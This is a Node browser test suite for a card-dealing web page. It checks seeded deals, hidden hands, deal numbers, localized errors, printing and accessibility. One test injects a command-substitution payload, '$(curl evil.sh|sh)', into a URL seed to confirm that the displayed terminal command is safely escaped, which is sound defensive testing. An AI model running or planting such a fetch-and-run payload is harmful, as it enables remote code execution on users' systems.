// Deal: cards and numbers are the program's, hands are hidden and shown, and a deal is found by its number.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { BROWSERS, launch, open } from "./browsers.mjs";
import { accessible, held, program, tabTo, text, until } from "./tabs.mjs";

/** North's hand of `evenhand deal bridge --seed 1`, and the deal's number. */
const NORTH = "king of spades, jack of spades, 6 of spades";
const NUMBER = "40017635142201251879845429579";

const hand = (page, place) => page.$$eval(`[data-place="${place}"] svg`, (all) => all.map((one) => one.getAttribute("aria-label")));
const dealt = (page) => until(page, () => document.querySelector(".hand svg") !== null);
const numbered = (page) => until(page, () => document.querySelector(".digits") !== null);

for (const browser of BROWSERS) {
  describe(browser.name, () => {
    let driver;
    before(async () => {
      driver = await launch(browser);
    });
    after(() => driver.close());

    test("the deal of a seed is the program's, and so is its number", async () => {
      const page = await open(driver, "#deal?game=bridge&seed=1");
      await dealt(page);
      const words = { six: "6" };
      const north = (await hand(page, "N")).map((name) => name.replace(/^\w+/, (rank) => words[rank] ?? rank));
      assert.equal(north.slice(0, 3).join(", "), NORTH);
      assert.equal(north.length, 13);
      await numbered(page);
      assert.equal(await text(page, ".digits"), NUMBER);
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("every game is dealt as the program deals it", async () => {
      const page = await open(driver, "#deal?seed=7&lang=zh");
      await dealt(page);
      const games = await page.$$eval(".form select:first-of-type optgroup:first-of-type option", (all) => all.map((one) => one.value));
      assert.ok(games.length > 30);
      for (const game of ["holdem", "riichi", "mahjong144", "uno112", "tarot", "koikoi", "gouji"]) {
        await page.evaluate((game) => {
          location.hash = `#deal?seed=7&lang=zh&game=${game}`;
        }, game);
        const command = `evenhand deal ${game} --seed 7 --number`;
        await until(page, (command) => document.querySelector(".terminal code")?.textContent === command, command);
        await until(page, (game) => document.querySelector("#table")?.dataset.game === game, game);
        const shown = await page.$$eval(".hand", (all) => Object.fromEntries(all.map((hand) => [
          hand.dataset.place,
          [...hand.querySelectorAll("[data-code]")].map((card) => card.dataset.code),
        ])));
        const written = program("deal", game, "--seed", "7", "--json");
        if (written !== undefined) {
          const { hands, piles } = JSON.parse(written);
          assert.deepEqual(shown, { ...hands, ...piles }, game);
        }
      }
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("hands are hidden and shown by keys, and the link keeps it", async () => {
      const page = await open(driver, "#deal?game=doudizhu&seed=42");
      await dealt(page);
      await tabTo(page, '[data-place="B"] button', 90);
      await page.keyboard.press("Enter");
      await until(page, () => document.querySelectorAll('[data-place="B"] svg').length === 1);
      assert.match(await page.evaluate(() => location.hash), /hidden=B/);
      assert.equal((await hand(page, "A")).length, 17);
      await page.keyboard.press("Enter");
      await until(page, () => document.querySelectorAll('[data-place="B"] svg').length === 17);
      await page.close();
    });

    test("a deal is found by its number, and what is no number is told", async () => {
      const page = await open(driver, `#deal?game=bridge&seed=9&number=${NUMBER}`);
      await dealt(page);
      assert.equal((await hand(page, "N"))[0], "king of spades");
      await page.evaluate(() => {
        location.hash = "#deal?game=bridge&seed=9&number=-1";
      });
      await until(page, () => document.querySelector("[role=alert]")?.textContent.includes("whole number"));
      await page.evaluate(() => {
        location.hash = "#deal?game=own&seed=9&deck=52&pattern=A%20(";
      });
      await until(page, () => document.querySelector("[role=alert]")?.textContent.includes("^"));
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("what is wrong is told in the reader's language, and the last deal stays", async () => {
      const page = await open(driver, "#deal?game=bridge&seed=1&lang=zh");
      await dealt(page);
      for (const [link, told] of [
        ["game=nosuch", "没有叫“nosuch”的游戏"],
        ["game=bridge&deal=-3", "应为 1 到 4,294,967,296 的整数"],
        ["game=bridge&players=x", "应为 1 到"],
        ["game=bridge&number=abc", "十进制整数"],
        ["game=bridge&number=53644737765488792839237440000", "太大"],
        ["game=own&deck=zzz&pattern=A:2", "不是 1 到 10000 张的牌堆"],
      ]) {
        await page.evaluate((link) => {
          location.hash = `#deal?seed=1&lang=zh&${link}`;
        }, link);
        await until(page, (told) => document.querySelector("[role=alert]")?.textContent.includes(told), told);
        assert.equal((await hand(page, "N")).length, 13, link);
        // What can be corrected is there, beside the cards of before.
        assert.equal(await page.$eval(".shown", (shown) => shown.inert), !link.includes("number"), link);
      }
      await page.evaluate(() => {
        location.hash = "#deal?seed=1&lang=zh&game=own&deck=52&pattern=";
      });
      await until(page, () => document.querySelector("main").textContent.includes("请写出怎样发") && document.querySelector("[role=alert]") === null);
      assert.deepEqual(page.noted, []);
      await page.close();
    });

    test("a link to a number that is none shows the deal of its seed, and the form that corrects it", async () => {
      const page = await open(driver, "#deal?game=bridge&seed=1&number=53644737765488792839237440000");
      await until(page, () => document.querySelector(".numbered [role=alert]") !== null);
      assert.equal((await hand(page, "N")).length, 13);
      assert.equal(await page.$eval(".numbered input", (input) => input.value), "53644737765488792839237440000");
      await page.close();
    });

    test("a deck has its name, its cards in sight and no number; mahjong has tiles; paper has no buttons", async () => {
      const page = await open(driver, "#deal?game=52&seed=42&lang=en");
      await dealt(page);
      assert.equal(await text(page, "#table"), "the French deck");
      assert.equal(await page.$$eval(".hand svg", (all) => all.filter((one) => one.checkVisibility()).length), 52);
      assert.equal(await page.$(".numbered"), null);
      await page.evaluate(() => {
        location.hash = "#deal?game=mahjong&seed=42&lang=en";
      });
      await until(page, () => document.querySelector(".whose")?.textContent.includes("14 tiles"));
      await numbered(page);
      await page.emulateMediaType("print").catch(() => undefined);
      const isPrinted = await page.evaluate(() => matchMedia("print").matches);
      assert.ok(!isPrinted || await page.$$eval("main button", (all) => all.every((one) => !one.checkVisibility())));
      await page.close();
    });

    test("a link does not hold up the page, and cannot put a command into the line for a terminal", async () => {
      const page = await open(driver, "#deal?lang=en&seed=1");
      const { longest, allowed } = await held(page, "#deal?lang=en&game=own&deck=10000x1&pattern=A:*&seed=1", "#deal?lang=en&seed=1", () => document.querySelector("[role=alert]") !== null);
      assert.ok(longest <= allowed, `${longest} ms`);
      await page.evaluate(() => {
        location.hash = `#deal?lang=en&game=bridge&seed=${encodeURIComponent("$(curl evil.sh|sh)'\u0003")}`;
      });
      await until(page, () => document.querySelector(".terminal code")?.textContent === "evenhand deal bridge --seed $'$(curl evil.sh|sh)\\'\\003' --number");
      await page.close();
    });

    test("axe-core finds nothing, in both themes and languages", async () => {
      for (const [lang, game] of [["en", "bridge"], ["zh", "uno"]]) {
        const page = await open(driver, `#deal?game=${game}&seed=1&lang=${lang}`);
        await dealt(page);
        await numbered(page);
        await accessible(page, lang);
        assert.deepEqual(page.noted, []);
        await page.close();
      }
    });
  });
}
